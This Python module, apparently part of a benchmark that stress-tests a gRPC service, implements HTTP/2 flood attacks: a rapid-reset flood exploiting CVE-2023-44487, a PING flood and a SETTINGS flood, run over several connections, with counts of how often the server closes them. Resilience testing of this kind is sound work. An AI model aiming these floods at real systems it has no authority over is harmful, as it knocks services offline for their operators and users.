"""Floods of HTTP/2 frames sent straight to the gRPC port."""

from __future__ import annotations

import asyncio
import contextlib
from collections import Counter
from collections.abc import Callable
from typing import Final, TypeAlias

from spotplane_bench.abuse import http2
from spotplane_bench.abuse.target import Outcome, Size, Target

CONNECTIONS: Final = 4
# Frames between two looks at the connection; enough to fill a socket buffer.
BURST: Final = 200
Burst: TypeAlias = Callable[[int], bytes]
_METHOD: Final = "/spotplane.v1.CallerService/ValidateCaller"


async def rapid_reset(target: Target, size: Size) -> Outcome:
    """Open calls and reset each at once (CVE-2023-44487), half of them with a valid credential."""
    key = dict(target.metadata)

    def burst(first: int) -> bytes:
        parts = []
        for n in range(first, first + BURST):
            stream_id = 2 * n + 1
            parts.append(http2.call(stream_id, _METHOD, key if n % 2 else {}))
            parts.append(http2.message(stream_id, b"", end=True))
            parts.append(http2.reset(stream_id))
        return b"".join(parts)

    return await _flood(target, size, burst)


async def ping_flood(target: Target, size: Size) -> Outcome:
    """Send PING frames as fast as the connection takes them."""
    burst = http2.frame(http2.PING, 0, 0, bytes(8)) * BURST
    return await _flood(target, size, lambda _first: burst)


async def settings_flood(target: Target, size: Size) -> Outcome:
    """Send SETTINGS frames, each of which must be acknowledged."""
    burst = http2.settings({}) * BURST
    return await _flood(target, size, lambda _first: burst)


async def _flood(target: Target, size: Size, burst: Burst) -> Outcome:
    outcome: Outcome = Counter()
    async with asyncio.timeout(size.seconds + 5):
        await asyncio.gather(*(_one(target, size, burst, outcome) for _ in range(CONNECTIONS)))
    return outcome


async def _one(target: Target, size: Size, burst: Burst, outcome: Outcome) -> None:
    loop = asyncio.get_running_loop()
    until = loop.time() + size.seconds
    sent = 0
    while sent < size.count // CONNECTIONS and loop.time() < until:
        connection = await http2.Connection.open(target.server)
        outcome["connections"] += 1
        in_connection = 0
        try:
            async with asyncio.timeout_at(until):
                while sent < size.count // CONNECTIONS and await connection.send(
                    burst(in_connection)
                ):
                    in_connection += BURST
                    sent += BURST
        except TimeoutError:
            pass
        # A server that has had enough says so before it closes.
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(connection.closed.wait(), 0.2)
        outcome.update(connection.seen)
        outcome["closed by server"] += connection.closed.is_set()
        await connection.close()
    outcome["sent"] += sent
